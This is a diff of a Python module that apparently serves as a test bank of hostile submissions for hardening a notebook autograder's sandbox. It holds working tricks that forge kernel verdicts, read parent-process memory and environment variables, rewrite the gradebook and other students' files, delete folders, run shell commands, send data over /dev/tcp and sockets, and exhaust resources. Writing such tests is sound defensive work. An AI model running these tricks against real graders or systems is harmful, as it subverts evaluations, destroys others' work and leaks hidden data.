@@ -1,38 +1,71 @@
 """The bank of hostile submissions: what somebody might try instead of an answer.
 
-Each trick stands in the cell of `double`, whose honest answer is wrong, so the honest
-score of a submission is 5: the points of `sign`. `{outside}` is a folder that no code
-of a submission may touch, `{tcp}` and `{udp}` are ports of this machine that listen.
+Every function of a submission is wrong but `sign`, so its honest score is what `sign`
+is worth. A trick stands in the cell of `double`, and in others where it says so.
+`<outside>` is a folder that no code of a submission may touch, `<victim>` a process of
+somebody else's, `<tcp>` and `<udp>` ports of this machine that listen.
 All of them are small and harmless even where nothing stops them.
+
+A trick may also say for itself that it got through: it prints GOT AWAY.
 """
 
 from dataclasses import dataclass
 
-HONEST = 5.0
-WRONG = "def double(x):\n    return 0"
+from grading.arena import HONEST, WRONG
+
+__all__ = ["HONEST", "TRICKS", "Trick", "trick"]
 
 
 @dataclass(frozen=True)
 class Trick:
-    """One hostile submission: its name, what it tries, its family and its cell."""
+    """One hostile submission: its name, what it tries, its family and its cells.
+
+    `answers` are the solution cells, `cells` stand behind them. One with a `friend`
+    is graded after it; one that is `told` is graded twice, with other hidden tests:
+    what the student gets may not differ. A trick against `ours` alone speaks our
+    engine's language, and is nothing to other graders.
+    """
 
     name: str
     says: str
     family: str
-    code: str
+    answers: dict[str, str]
+    cells: tuple[str, ...] = ()
+    friend: str = ""
+    told: bool = False
+    ours: bool = False
+
+    @property
+    def long(self) -> bool:
+        """Whether grading it takes seconds: it wants time, memory or threads."""
+        return self.name in LONG
 
 
+LONG = set("""
+    deep_folders deep_value disk endless_call endless_cell fast_cells fast_disk
+    half_a_message interrupts_refused large_value list_bomb loans_for_ever many_files
+    many_threads memory million_lists outputs_by_thousands outputs_of_lists
+    outputs_of_megabytes recursion_without_limit sideways_by_numbers_of_threads
+    sideways_by_statistics sideways_by_whole_locks slow_answers slow_destructor
+    spinning_threads stopped_self unlinked_files unlinked_in_quick_cells
+""".split())  # fmt: skip
 TRICKS: list[Trick] = []
 
 
-def trick(family, name, says, code, double=WRONG):
-    """Enter a trick."""
-    TRICKS.append(Trick(name, says, family, f"{code.strip()}\n{double.strip()}"))
+def trick(family, name, says, code, double=None, **options):
+    """Enter a trick: its code, and what `double` does; other answers by name."""
+    fields = {key: options.pop(key) for key in ("cells", "friend", "told", "ours")
+              if key in options}  # fmt: skip
+    double = WRONG["double"] if double is None else double
+    text = f"{code.strip()}\n{double.strip()}"
+    answers = WRONG | options | {"double": text}
+    TRICKS.append(Trick(name, says, family, answers, **fields))
 
 
 FORGE, LOOK, LIE = "forge the verdict", "find the answer", "return a lie"
 CHANGE, STAY, SEND = "change what is outside", "stay behind", "send a packet"
 EXHAUST, LEAK = "exhaust or stop the grader", "leak a hidden test"
+SPEAK = "speak for the engine"
 
 # Forging: in a kernel that runs the tests too, these decide what a test does.
 trick(FORGE, "ast_transformer", "Rewrites every assert into nothing.", """
@@ -64,14 +97,14 @@ get_ipython().run_code = run
 """)  # fmt: skip
 trick(FORGE, "replaced_do_execute", "Replaces the kernel's own answers.", """
 async def execute(*arguments, **named):
-    return {{"status": "ok", "execution_count": 1,
-             "payload": [], "user_expressions": {{}}}}
+    return {"status": "ok", "execution_count": 1,
+             "payload": [], "user_expressions": {}}
 get_ipython().kernel.do_execute = execute
 """)  # fmt: skip
 trick(FORGE, "fake_result_hook", "Shows full points before each cell runs.", """
 def publish(*_):
     shell = get_ipython()
-    content = {{"data": {{"text/plain": "3"}}, "metadata": {{}}, "execution_count": 1}}
+    content = {"data": {"text/plain": "3"}, "metadata": {}, "execution_count": 1}
     kernel = shell.kernel
     kernel.session.send(kernel.iopub_socket, "execute_result", content,
                         parent=kernel.get_parent())
@@ -196,7 +229,7 @@ def texts():
 trick(LOOK, "course_folder", "Reads the instructor's notebook where it lies.", """
 def texts():
     from pathlib import Path
-    for path in Path("{outside}").rglob("*.ipynb"):
+    for path in Path("<outside>").rglob("*.ipynb"):
         yield path.read_text()
 """, READ)  # fmt: skip
 trick(LOOK, "gradebook_sources", "Reads the tests from the gradebook.", """
@@ -215,8 +248,8 @@ def texts():
     import os, re
     pid = os.getppid()
     try:
-        maps = open(f"/proc/{{pid}}/maps").read().splitlines()
-        memory = open(f"/proc/{{pid}}/mem", "rb")
+        maps = open(f"/proc/{pid}/maps").read().splitlines()
+        memory = open(f"/proc/{pid}/mem", "rb")
     except OSError:
         return
     for line in maps[:40]:
@@ -233,7 +266,7 @@ seen = dict(os.environ)
 for pid in ("self", os.getppid()):
     try:
         seen |= dict(p.split("=", 1) for p in
-                     open(f"/proc/{{pid}}/environ").read().split("\\0") if "=" in p)
+                     open(f"/proc/{pid}/environ").read().split("\\0") if "=" in p)
     except OSError:
         pass
 seed = seen.get("FIRST_NEURON_SEED")
@@ -261,7 +294,7 @@ class Any(numpy.ndarray):
 trick(LIE, "reduce_runs_code", "Returns an object that runs code when unpickled.", """
 class Bomb:
     def __reduce__(self):
-        return (open, ("{outside}/unpickled", "w"))
+        return (open, ("<outside>/unpickled", "w"))
     def __eq__(self, other):
         return True
 """, "def double(x):\n    return Bomb()")  # fmt: skip
@@ -286,7 +319,7 @@ class Any(int):
 trick(CHANGE, "gradebook_update", "Writes full points into the gradebook.", """
 import sqlite3
 from pathlib import Path
-for folder in [Path.cwd(), *Path.cwd().parents, Path("{outside}")]:
+for folder in [Path.cwd(), *Path.cwd().parents, Path("<outside>")]:
     try:
         if (folder / "gradebook.db").exists():
             with sqlite3.connect(folder / "gradebook.db") as book:
@@ -296,36 +329,36 @@ for folder in [Path.cwd(), *Path.cwd().parents, Path("{outside}")]:
 """)  # fmt: skip
 trick(CHANGE, "other_submissions", "Overwrites what others handed in.", """
 from pathlib import Path
-for folder in [Path.cwd(), *Path.cwd().parents, Path("{outside}")]:
+for folder in [Path.cwd(), *Path.cwd().parents, Path("<outside>")]:
     try:
         for path in folder.glob("submitted/*/*/*.ipynb"):
-            path.write_text("{{}}")
+            path.write_text("{}")
     except OSError:
         pass
 """)  # fmt: skip
 trick(CHANGE, "source_folder", "Empties the tests in the instructor's folder.", """
 from pathlib import Path
-for path in Path("{outside}").rglob("*.ipynb"):
+for path in Path("<outside>").rglob("*.ipynb"):
     try:
-        path.write_text("{{}}")
+        path.write_text("{}")
     except OSError:
         pass
 """)  # fmt: skip
 trick(CHANGE, "deleted_folder", "Deletes all it can outside.", """
 import shutil
-shutil.rmtree("{outside}/source", ignore_errors=True)
+shutil.rmtree("<outside>/source", ignore_errors=True)
 """)  # fmt: skip
 trick(CHANGE, "symbolic_link", "Writes through a link it made.", """
 import os
 try:
-    os.symlink("{outside}", "link")
+    os.symlink("<outside>", "link")
     open("link/through_a_link", "w").write("x")
 except OSError:
     pass
 """)  # fmt: skip
 trick(CHANGE, "written_at_exit", "Writes outside when its process ends.", """
 import atexit
-atexit.register(lambda: open("{outside}/at_exit", "w").write("x"))
+atexit.register(lambda: open("<outside>/at_exit", "w").write("x"))
 """)  # fmt: skip
 trick(CHANGE, "module_beside", "Leaves a numpy.py for those who come after.", """
 open("numpy.py", "w").write("raise SystemExit")
@@ -334,16 +367,16 @@ open("sitecustomize.py", "w").write("raise SystemExit")
 trick(CHANGE, "shell_command", "Writes outside by a shell.", """
 import subprocess
 try:
-    subprocess.run("touch {outside}/by_shell", shell=True)
+    subprocess.run("touch <outside>/by_shell", shell=True)
 except OSError:
     pass
-get_ipython().system("touch {outside}/by_magic")
+get_ipython().system("touch <outside>/by_magic")
 """)  # fmt: skip
 
 # Staying behind.
 STAYER = """
     time.sleep(1)
-    open("{outside}/late", "w").write("x")
+    open("<outside>/late", "w").write("x")
     time.sleep(20)
     os._exit(0)
 """
@@ -388,7 +421,7 @@ trick(SEND, "tcp", "Sends what it sees by TCP.", """
 import socket
 def tell(x):
     try:
-        with socket.create_connection(("127.0.0.1", {tcp}), 2) as line:
+        with socket.create_connection(("127.0.0.1", <tcp>), 2) as line:
             line.sendall(str(x).encode())
     except OSError:
         pass
@@ -399,7 +432,7 @@ import socket
 def tell(x):
     try:
         line = socket.socket(type=socket.SOCK_DGRAM)
-        line.sendto(str(x).encode(), ("127.0.0.1", {udp}))
+        line.sendto(str(x).encode(), ("127.0.0.1", <udp>))
     except OSError:
         pass
 """, "def double(x):\n    tell(x)\n    return 0")  # fmt: skip
@@ -409,19 +442,19 @@ libc = ctypes.CDLL(None)
 number = libc.syscall(41, 2, 2, 0)
 if number >= 0:
     line = socket.socket(fileno=number)
-    line.sendto(b"raw", ("127.0.0.1", {udp}))
+    line.sendto(b"raw", ("127.0.0.1", <udp>))
 """)  # fmt: skip
 trick(SEND, "bash_tcp", "Has a shell open the connection.", """
 import subprocess
 try:
-    subprocess.run(["bash", "-c", "echo x > /dev/tcp/127.0.0.1/{tcp}"])
+    subprocess.run(["bash", "-c", "echo x > /dev/tcp/127.0.0.1/<tcp>"])
 except OSError:
     pass
 """)  # fmt: skip
 trick(SEND, "asyncio_client", "Connects by an event loop.", """
 import asyncio, threading
 async def tell():
-    _, writer = await asyncio.open_connection("127.0.0.1", {tcp})
+    _, writer = await asyncio.open_connection("127.0.0.1", <tcp>)
     writer.write(b"x"); await writer.drain(); writer.close()
 def run():
     try:
@@ -472,7 +505,7 @@ held.clear()
 trick(EXHAUST, "disk", "Writes files until somebody stops it.", """
 try:
     for n in range(40):
-        open(f"filler-{{n}}", "wb").write(bytes(2**24))
+        open(f"filler-{n}", "wb").write(bytes(2**24))
 except OSError:
     pass
 """)  # fmt: skip
@@ -525,22 +558,22 @@ if "submitted" not in here and "autograded" not in here:
 # Leaking a hidden test's inputs.
 trick(LEAK, "exception_message", "Raises what it was given.", "", """
 def double(x):
-    raise ValueError(f"I was given {{x}}")
-""")  # fmt: skip
+    raise ValueError(f"I was given {x}")
+""", told=True)  # fmt: skip
 trick(LEAK, "printed", "Prints what it was given.", "", """
 def double(x):
     print("I was given", x)
     return 0
-""")  # fmt: skip
+""", told=True)  # fmt: skip
 trick(LEAK, "class_name", "Names an exception after what it was given.", "", """
 def double(x):
-    raise type(f"Given {{x}}", (Exception,), {{}})(x)
-""")  # fmt: skip
+    raise type(f"Given {x}", (Exception,), {})(x)
+""", told=True)  # fmt: skip
 trick(LEAK, "kept_in_a_file", "Keeps what it was given in a file.", "", """
 def double(x):
     try:
-        open("{outside}/seen", "a").write(f"{{x}} ")
+        open("<outside>/seen", "a").write(f"{x} ")
     except OSError:
         pass
     return 0
-""")  # fmt: skip
+""", told=True)  # fmt: skip
